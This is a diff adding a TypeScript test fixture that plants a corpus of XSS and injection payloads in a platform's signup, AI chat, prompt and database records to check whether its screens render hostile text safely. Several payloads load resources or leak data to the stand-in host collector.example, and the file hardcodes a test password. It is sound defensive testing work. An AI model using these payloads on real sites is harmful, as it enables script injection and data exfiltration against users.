@@ -1,0 +1,102 @@
+import { randomUUID } from 'node:crypto'
+import type { Kysely } from 'kysely'
+import { obey } from './model.ts'
+import { pay, subscribed } from './people.ts'
+import type { Actor, World } from './world.ts'
+
+const PASSWORD = 'Correct-Horse-9-Battery'
+export const EVIL = 'collector.example'
+/** In front of every hostile text, to see where it is shown. */
+export const MARK = 'Hostile words'
+export const corpus = [
+  '<img src=x onerror="window.xss=1">',
+  '<script>window.xss=1</script>',
+  '<svg/onload=window.xss=1>',
+  '[click](javascript:window.xss=1)',
+  `![x](https://${EVIL}/leak?d=1)`,
+  '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
+  '<a href="javascript:window.xss=1" onclick="window.xss=1">x</a>',
+  '"><details open ontoggle=window.xss=1>',
+  '[x](data:text/html,<script>window.xss=1</script>)',
+  `<style>@import "https://${EVIL}/x.css"</style>`,
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.xss=1>',
+  '[a](java\tscript:window.xss=1) [b](&#106;avascript:window.xss=1) [c](vbscript:x) [d](//collector.example)',
+  '"autofocus onfocus=window.xss=1 x="',
+  "'-window.xss=1-'",
+  '</title></textarea></script><script>window.xss=1</script>',
+  `{{constructor.constructor("window.xss=1")()}} \${window.xss=1}`,
+  `<link rel=stylesheet href=//${EVIL}/a.css><base href=//${EVIL}/><meta http-equiv=refresh content="0;url=//${EVIL}/">`,
+  `<form action=https://${EVIL}><button formaction=javascript:window.xss=1>go</button></form>`,
+  '<object data=javascript:window.xss=1><embed src=javascript:window.xss=1>',
+  '\u202e<img src=x onerror=window.xss=1>\u0000',
+]
+
+export type Kept = { access_token: string; user: { id: string; email: string } }
+
+/** Hostile text in everything that a seller can write, and in everything that a model answers them. */
+export async function hostileSeller(world: World, text: string): Promise<Kept> {
+  const nobody = await world.actor('anonymous')
+  const email = `hostile-${Math.floor(world.random() * 1e9)}@example.com`
+  const name = text.replaceAll('\0', '').slice(0, 100)
+  await world.call(nobody, 'POST', '/auth/v1/signup', { email, password: PASSWORD, data: { name, full_name: name } })
+  const kept = await session(world, email)
+  const actor: Actor = { kind: 'seller', id: kept.user.id, email, token: kept.access_token }
+  await world.call(actor, 'POST', '/rest/v1/user_roles', { user_id: actor.id, role: 'seller' })
+  const fn = (path: string, body: unknown) => world.call(actor, 'POST', `/functions/v1/${path}`, body)
+  const { body: checkout } = await fn('create-checkout', { plan: 'pro' })
+  if (checkout?.url) await pay(world, checkout.url, email)
+  await subscribed(world, actor)
+  const said = text.replaceAll('\0', '')
+  const answered = obey({ content: said })
+  const proposed = obey({
+    content: said,
+    tools: [
+      { name: 'search', arguments: JSON.stringify({ query: said.slice(0, 1900) }) },
+      { name: 'suggest_names', arguments: JSON.stringify({ business: said.slice(0, 1900) }) },
+    ],
+  })
+  const written = [
+    await fn('ai-chat', { message: `${said} ${answered}`, conversation_id: 'new' }),
+    await fn('ai-chat', { message: `${said} ${answered}`, conversation_id: 'new', feature: 'assistant' }),
+    await fn('ai-orchestrator', { message: `${said} ${proposed}`, conversation_id: 'new', task_type: 'action' }),
+    await fn('ai-compare', { prompt: `${said} ${answered}`, models: ['gpt-4o-mini'] }),
+    await fn('ai-key-create', { name: said.slice(0, 80) }),
+    await world.call(actor, 'POST', '/rest/v1/ai_prompts', { title: said.slice(0, 80), body: said }),
+  ]
+  const failed = written.find(({ status }) => status >= 400 && status !== 403)
+  if (failed) throw new Error(`hostile text could not be planted: ${failed.status} ${failed.text.slice(0, 200)}`)
+  await plantRows(world, kept.user.id, said)
+  return kept
+}
+
+/** What no call writes yet and screens already read. */
+async function plantRows({ platform: { services } }: World, user_id: string, text: string) {
+  const put = (service: string, table: string, row: object) =>
+    (services[service]!.rt.db as Kysely<any>)
+      .insertInto(table)
+      .values({ id: randomUUID(), user_id, ...row })
+      .execute()
+  await put('crm', 'leads', { name: text, email: text, status: text, source: text })
+  await put('crm', 'appointments', { title: text, status: text, starts_at: new Date() })
+  await put('crm', 'email_campaigns', { name: text, status: text })
+  await put('marketplace', 'items', { title: text, description: text, category: text, item_type: text, price_cents: 100, is_active: true })
+  await put('analytics', 'activity_logs', { event_id: randomUUID(), command: text, status: text, created_at: new Date() })
+  const notice = { kind: 'usage', about: randomUUID(), title: text, body: text, link: `javascript:window.xss=1//${text}` }
+  await put('analytics', 'notifications', { ...notice, created_at: new Date() })
+  const storefront = { display_name: text, marketplace_slug: slugOf(user_id) }
+  await services
+    .marketplace!.rt.db.insertInto('profiles' as never)
+    .values({ user_id, version: 1, ...storefront } as never)
+    .onConflict((conflict) => conflict.column('user_id' as never).doUpdateSet(storefront as never))
+    .execute()
+}
+
+export const slugOf = (userId: string) => `hostile-${userId.slice(-12)}`
+
+export const session = async (world: World, email: string): Promise<Kept> => {
+  const { body } = await world.call(await world.actor('anonymous'), 'POST', '/auth/v1/token?grant_type=password', {
+    email,
+    password: PASSWORD,
+  })
+  return body
+}
